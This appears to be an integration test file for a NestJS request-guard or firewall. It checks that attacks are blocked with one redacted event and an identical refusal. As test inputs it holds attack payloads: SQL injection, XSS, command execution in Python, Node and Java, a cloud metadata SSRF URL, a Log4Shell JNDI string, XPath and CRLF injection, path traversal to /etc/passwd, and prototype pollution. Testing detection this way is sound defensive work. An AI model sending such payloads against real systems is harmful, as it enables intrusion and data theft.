import { Body, Controller, Get, Post, Query } from '@nestjs/common';
import { GuardAgent } from '../../src/index.js';
import { EXAMPLES } from '../attacks/examples.js';
import { PLATFORMS, type RunningApp, startApp, TOKEN } from '../support/app.js';
import { type Answer } from '../support/http.js';
import { PlatformStub } from '../unit/agent/platform-stub.js';

@Controller()
class ShopController {
  @Get('search')
  search(@Query('q') q: string): object {
    return { q };
  }

  @Post('orders')
  order(@Body() body: unknown): unknown {
    return body;
  }
}

const SQLI = "1' OR '1'='1' -- ";
const XSS = '<img src=x onerror=alert(1)>';
const SECRET = 'hunter2';
const encoded = encodeURIComponent;
/** Of each category of the examples, one that stands in a parameter or in a body. */
const BY_CATEGORY = [
  ...new Map(
    EXAMPLES.filter(({ verdict, place }) => verdict !== undefined && (place === 'query' || place === 'json')).map(
      (one) => [one.verdict, one],
    ),
  ).values(),
];

const FURTHER = [
  "__import__('os').system('id')",
  "process.mainModule.require('child_process').exec('id')",
  'java.lang.Runtime.getRuntime().exec("id")',
  'http://169.254.169.254/latest/meta-data/',
  "'] | //user/*[contains(*,'",
  'a\r\nSet-Cookie: sid=1',
];

/** What a client can tell apart: all of an answer but its number, a hash over it, and the clock. */
const seen = ({ status, text, headers }: Answer): unknown => {
  const { date: _date, etag: _etag, 'x-request-id': id, ...rest } = headers;
  return { status, text: typeof id === 'string' ? text.replaceAll(id, 'ID') : text, headers: rest };
};

describe.each(PLATFORMS)(
  'Evidence: detector, place, normalised excerpt (redacted), offset; never in the answer to the client. One verdict, one event, on %s',
  (platform) => {
    let stub: PlatformStub;
    let app: RunningApp;

    beforeEach(async () => {
      stub = await PlatformStub.start();
      app = await startApp({
        platform,
        controllers: [ShopController],
        guard: {
          status: { token: TOKEN },
          rateLimit: { enabled: false },
          ban: { enabled: false },
          agent: {
            apiKey: 'fg_test_0123456789',
            endpoint: stub.url,
            installId: '0b6f2a52-7c58-4d5e-9d1c-2a4a4f6d3e11',
          },
        },
      });
    });
    afterEach(async () => {
      await app.close();
      await stub.stop();
    });
    const events = async (): Promise<Record<string, any>[]> => {
      await app.app.get(GuardAgent).flush();
      return stub.batches().flatMap((batch) => batch.events as unknown as Record<string, any>[]);
    };

    it('several attacks in several places are one refusal and one event, with the evidence of the first', async () => {
      const headers = { cookie: `a=${encoded(XSS)}; sid=${SECRET}`, 'x-name': '${jndi:ldap://a.example/x}' };
      const path = `/orders?q=${encoded(encoded(`shoes ${SQLI}`))}&password=${SECRET}&file=../../../etc/passwd`;
      const { status, text } = await app.call('POST', path, { headers, body: { html: XSS, card: SECRET } });
      expect(status).toBe(403);
      const [event, ...others] = await events();
      expect(others).toEqual([]);
      expect(event).toMatchObject({
        event_type: 'penetration_attempt',
        status_code: 403,
        rule_type: expect.stringMatching(/^sql:[a-z-]+$/) as string,
        metadata: {
          check: 'detection',
          category: 'sqli',
          place: 'query',
          name: 'q',
          excerpt: expect.stringContaining("' OR '1'='1'") as string,
          steps: ['percent'],
        },
      });
      const { offset, excerpt, confidence } = event!.metadata as {
        offset: number;
        excerpt: string;
        confidence: number;
      };
      expect(`shoes ${SQLI}`.slice(Math.max(0, offset - 20))).toBe(excerpt);
      expect(confidence).toBeGreaterThanOrEqual(0.5);
      expect(JSON.stringify(event)).not.toContain(SECRET);
      expect(text).not.toMatch(/sql|query|offset|confidence|evidence|'1'/i);
      expect((await app.status()).blockedBy).toEqual({ detection: 1 });
    });

    it.each<{ what: string; path: string; body?: object; headers?: Record<string, string> }>([
      { what: 'a parameter', path: `/search?password=${encoded(`${SECRET}${SQLI}`)}` },
      { what: 'a step of a path', path: `/search?user[token][value]=${encoded(`${SECRET}${SQLI}`)}` },
      { what: 'a field of a body', path: '/orders', body: { user: { password: `${SECRET}${XSS}` } } },
      { what: 'a cookie', path: '/search', headers: { cookie: `theme=${encoded(`${SECRET}${XSS}`)}` } },
    ])('shows nothing of what stands under a sensitive name: $what', async ({ path, body, headers = {} }) => {
      const answer = await app.call(body ? 'POST' : 'GET', path, { headers, ...(body && { body }) });
      expect(answer.status).toBe(403);
      const all = await events();
      expect(all).toMatchObject([{ metadata: { excerpt: '[REDACTED]', offset: expect.any(Number) as number } }]);
      expect(JSON.stringify(all)).not.toContain(SECRET);
      expect(answer.text).not.toContain(SECRET);
    });

    it('answers the same bytes whatever the category, the rule and the place', async () => {
      const answers: Answer[] = [];
      for (const { text, place, name = 'q' } of BY_CATEGORY) {
        if (place === 'query') answers.push(await app.get(`/search?${name}=${encoded(text)}`));
        else answers.push(await app.call('POST', '/orders', { body: { [name]: text } }));
      }
      for (const text of FURTHER) answers.push(await app.get(`/search?q=${encoded(text)}`));
      answers.push(await app.get('/search?__proto__[admin]=1'));
      answers.push(await app.get(`/search/${encoded(XSS)}`));
      answers.push(await app.get('/search', { headers: { cookie: `a=${encoded(XSS)}` } }));
      answers.push(await app.get('/search', { headers: { 'x-name': '${jndi:ldap://a.example/x}' } }));
      answers.push(await app.call('POST', '/orders', { body: { html: XSS } }));
      const [first] = answers;
      for (const answer of answers) expect(seen(answer)).toEqual(seen(first!));
      const told = await events();
      expect(told).toHaveLength(answers.length);
      expect(new Set(told.map(({ metadata }) => (metadata as { category: string }).category)).size).toBeGreaterThan(14);
    });
  },
);
